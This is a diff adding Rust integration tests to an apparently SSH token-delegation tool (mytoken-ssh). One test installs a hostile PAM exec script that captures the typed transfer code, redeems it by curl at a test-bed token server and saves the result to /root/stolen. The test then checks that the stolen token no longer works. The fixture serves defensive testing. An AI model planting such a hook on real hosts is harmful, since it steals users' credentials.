@@ -161,6 +161,47 @@ fn a_double_dash_reaches_ssh_wherever_it_stands() -> Result<()> {
     })
 }
 
+/// What PAM runs at a host that takes what it gets and lets nobody in.
+const HOSTILE: &str = r#"#!/bin/sh
+code=$(tr -d '\000\n')
+printf '{"grant_type": "transfer_code", "transfer_code": "%s"}' "$code" |
+    curl -sS --cacert /etc/ssl/testbed-ca.pem -H 'Content-Type: application/json' -d @- \
+        https://mytoken.testbed:8443/api/v0/token/my >>/root/stolen
+exit 1
+"#;
+
+#[test]
+fn what_a_hostile_host_redeemed_is_dead_when_it_has_refused() -> Result<()> {
+    story_with_own_servers(one_node()?, |site| {
+        people::first_mytoken(site, "alice")?;
+        site.sh("alice", "echo 'prompts = [\"Password:\"]' >>.config/mytoken/config.toml")?.ok()?;
+        site.write("/root/hostile", HOSTILE, "0700")?;
+        let stack = "auth required pam_exec.so expose_authtok /root/hostile\naccount required pam_permit.so\n";
+        site.write("/etc/pam.d/sshd", stack, "0644")?;
+        let knock = site.sh("alice", "mytoken-ssh ssh --delegate testbed echo inside")?;
+        assert_eq!((knock.code, knock.stdout.as_str()), (255, ""), "{knock:?}");
+        assert!(!knock.stderr.contains("may still"), "{knock:?}");
+        let stolen = site.sh("root", "jq -er .mytoken /root/stolen")?.ok()?.stdout;
+        assert!(!tokens::is_valid(site, stolen.trim())?, "the host has a mytoken that works");
+        Ok(())
+    })
+}
+
+#[test]
+fn a_session_that_ends_like_a_refusal_keeps_its_mytoken() -> Result<()> {
+    story(one_node()?, |site| {
+        people::first_mytoken(site, "alice")?;
+        // A local command of her own runs as well.
+        let own = "-oPermitLocalCommand=yes '-oLocalCommand=echo \"%h\" >mine'";
+        let inside =
+            site.sh("alice", &format!("mytoken-ssh ssh --delegate {own} testbed 'cat $MYTOKEN_FILE; exit 255'"))?;
+        assert!(inside.code == 255 && inside.stderr.is_empty(), "{inside:?}");
+        assert_eq!(site.sh("alice", "cat mine")?.ok()?.stdout, "testbed\n");
+        assert!(tokens::is_valid(site, inside.stdout.trim())?, "jobs of the session have lost their mytoken");
+        Ok(())
+    })
+}
+
 #[test]
 fn every_kind_of_token_typed_at_the_prompt_logs_in() -> Result<()> {
     story_with_own_servers(one_node()?, |site| {
